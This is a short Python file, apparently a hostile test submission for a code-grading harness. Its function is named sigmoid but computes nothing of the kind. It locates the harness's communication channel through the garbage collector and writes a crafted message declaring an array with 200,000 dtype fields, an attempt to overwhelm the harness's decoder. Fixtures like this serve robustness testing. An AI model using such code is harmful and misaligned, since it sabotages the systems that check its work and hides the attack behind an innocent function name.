"""Sends an array whose dtype has two hundred thousand fields."""

import gc
import json
import struct

EARNS = 13
WORDS = r"sigmoid: "


def sigmoid(x):
    gc.unfreeze()
    stream = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Channel").stream
    tree = json.dumps(["dict", ["value", ["array", "i1," * 200_000, [1], 0, 8]]]).encode()
    stream.write(struct.pack("<QQ", len(tree), 8) + tree + bytes(8))
    stream.flush()
